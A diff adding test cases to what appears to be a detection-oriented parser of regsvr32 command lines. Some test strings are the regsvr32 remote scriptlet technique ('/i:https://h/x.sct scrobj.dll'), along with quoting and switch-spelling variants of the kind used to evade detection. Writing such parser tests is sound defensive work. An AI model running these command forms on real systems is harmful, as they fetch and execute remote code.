@@ -44,6 +44,18 @@ CASES = [
     ("\"C:\\Windows\\system32\\regsvr32.exe\" /s msxml6.dll", "regsvr32.exe", "C:\\Users\\a", "s", None,
      ["?:\\windows\\system32\\msxml6.dll"]),                       # bare system name: System32 first
     ("regsvr32 /s a.dll b.ocx", "regsvr32.exe", "", "s", None, ["a.dll", "b.ocx"]),
+    # switches and arguments quoted into one argument are read as their parts
+    ("regsvr32.exe \"/s /i:https://h/x.sct scrobj.dll\"", "regsvr32.exe", "", "is", "https://h/x.sct",
+     ["?:\\windows\\system32\\scrobj.dll"]),
+    ("regsvr32 \"/s C:\\x\\a.dll\"", "regsvr32.exe", "", "s", None, ["c:\\x\\a.dll"]),
+    # ...but a quoted /i: path with a blank stays whole
+    ("regsvr32 /s /i:\"C:\\Program Files\\V\\a.sct\" scrobj.dll", "regsvr32.exe", "", "is",
+     "C:\\Program Files\\V\\a.sct", ["?:\\windows\\system32\\scrobj.dll"]),
+    # PowerShell's backtick escape is not part of the path
+    ("regsvr32 /s `\"C:\\Users\\a\\scoop\\apps\\lav\\LAVSplitter.ax`\"", "regsvr32.exe", "", "s", None,
+     ["c:\\users\\a\\scoop\\apps\\lav\\lavsplitter.ax"]),
+    # a spelled-out switch is read as its letter, as regsvr32 reads it
+    ("regsvr32.exe -silent ..\\Celod.wac", "regsvr32.exe", "", "s", None, ["..\\celod.wac"]),
 ]
 
 
@@ -73,6 +85,17 @@ def test_switch_anomalies(line, anomaly):
 def test_program_token(line, program, args):
     inv = parse(line, "svc.exe" if line.startswith("svc") else "regsvr32.exe")
     assert inv.program == program and inv.args == args
+
+
+def test_spelled_out_and_unknown_switches_are_kept_apart():
+    inv = parse("regsvr32 -silent /unregister /q /s x.dll", "regsvr32.exe")
+    assert inv.spelled_switches == ("-silent", "/unregister") and inv.unknown_switches == ("/q",)
+    assert parse("regsvr32 /s /u /n /i:x x.dll", "regsvr32.exe").spelled_switches == ()
+
+
+def test_quoted_switch_group_is_an_anomaly():
+    anomalies = parse('regsvr32 "/s /u /i:http://h/a.sct scrobj.dll"', "regsvr32.exe").anomalies
+    assert any(a.startswith("switches and arguments inside one quoted argument") for a in anomalies)
 
 
 def test_install_arg_that_is_not_a_path_has_no_target():
